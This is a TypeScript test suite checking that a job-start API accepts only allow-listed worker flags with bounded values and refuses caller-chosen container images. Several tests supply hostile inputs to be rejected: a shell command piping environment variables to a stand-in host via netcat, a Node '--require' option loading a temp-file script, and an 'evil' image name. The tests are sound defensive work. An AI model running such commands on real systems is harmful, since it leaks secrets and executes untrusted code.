import { startFlowRequestSchema, startQueueRequestSchema } from '@streamforge/schemas';
import { flowToStartRequest, type FlowCatalog } from './flow-catalog';
import { planStart } from './start-plan';
import { requestErrorsOf as errorsOf } from './testing/request-errors';
import { checkWorkerArgs } from './worker-args';

const range = '2024-08-01:2024-08-01';
const dummy = (args: string[]) => planStart({ symbol: 'BTCUSDT', time_range: range, targets: [{ target: 'dummy-service', type: 'dummy', args }] });

describe('worker args: only allow-listed flags with checked values', () => {
  it('passes dummy-service flags, normalizing --flag=value', () => {
    expect(dummy(['--simulate-loading', '--loading-interval=0.5', '--exit-after', '30', '--debug']).targets[0].args).toEqual([
      '--simulate-loading', '--loading-interval', '0.5', '--exit-after', '30', '--debug',
    ]);
  });

  it("passes dummy-service's --start-delay (the missed-stop test's late joiner), bounded", () => {
    expect(dummy(['--start-delay=3']).targets[0].args).toEqual(['--start-delay', '3']);
    expect(errorsOf(() => dummy(['--start-delay', '601'])).errors[0].message).toBe('--start-delay takes a number from 0 to 600 (got "601")');
  });

  it('refuses a shell, naming the argument and the flags the target accepts', () => {
    const { errors } = errorsOf(() => dummy(['sh', '-c', 'env | nc evil 1']));
    expect(errors[0]).toEqual({ path: 'targets.0.args.0', message: expect.stringMatching(/^"sh" is not a flag dummy-service accepts; accepted flags: --debug, --noop/) });
    expect(errors.map((e) => e.path)).toEqual(['targets.0.args.0', 'targets.0.args.1', 'targets.0.args.2']);
  });

  it("refuses node options and another target's flags", () => {
    expect(errorsOf(() => planStart({ symbol: 'BTCUSDT', type: 'api_candles_1m', time_range: range, targets: [{ target: 'loader-api-candles', args: ['--simulate-loading'] }] })).errors).toEqual([
      { path: 'targets.0.args.0', message: '"--simulate-loading" is not a flag loader-api-candles accepts; accepted flags: --debug' },
    ]);
    expect(errorsOf(() => dummy(['--require=/tmp/x.js'])).errors[0].message).toMatch(/^"--require" is not a flag/);
  });

  it('checks values: missing, out of range, not a plain number', () => {
    expect(errorsOf(() => dummy(['--exit-after'])).errors).toEqual([{ path: 'targets.0.args.1', message: '--exit-after needs a value: an integer from 1 to 86400' }]);
    expect(errorsOf(() => dummy(['--fail-after', '0'])).errors[0].message).toBe('--fail-after takes an integer from 1 to 86400 (got "0")');
    expect(errorsOf(() => dummy(['--loading-interval', '1e9'])).errors[0].message).toBe('--loading-interval takes a number from 0.1 to 3600 (got "1e9")');
    expect(errorsOf(() => dummy(['--noop=yes'])).errors[0].message).toBe('--noop takes no value (got "--noop=yes")');
    expect(checkWorkerArgs('dummy-service', ['--constructor'], 'args').errors).toHaveLength(1);
  });

  it('refuses extra_params.args a flow target does not accept, by their own path', () => {
    const catalog: FlowCatalog = { dummy_flow: { description: '', type: 'dummy', targets: [{ target: 'dummy-service', args: [] }] } };
    const { errors } = errorsOf(() => flowToStartRequest(catalog, { flow_name: 'dummy_flow', symbol: 'BTCUSDT', time_range: range, extra_params: { args: ['--exit-after', '5', '-e'] } }));
    expect(errors).toEqual([{ path: 'extra_params.args.2', message: expect.stringMatching(/^"-e" is not a flag dummy-service accepts/) }]);
  });
});

describe('no caller-chosen image', () => {
  it('the start and flow requests refuse an image field by name', () => {
    const start = startQueueRequestSchema.safeParse({ symbol: 'BTCUSDT', time_range: range, targets: [{ target: 'dummy-service', type: 'dummy', image: 'evil/x:1' }] });
    expect(start.success).toBe(false);
    expect(JSON.stringify(start.error?.issues)).toMatch(/image/);
    const flow = startFlowRequestSchema.safeParse({ flow_name: 'dummy_flow', symbol: 'BTCUSDT', time_range: range, extra_params: { image: 'evil/x:1' } });
    expect(flow.success).toBe(false);
    expect(JSON.stringify(flow.error?.issues)).toMatch(/image/);
  });
});
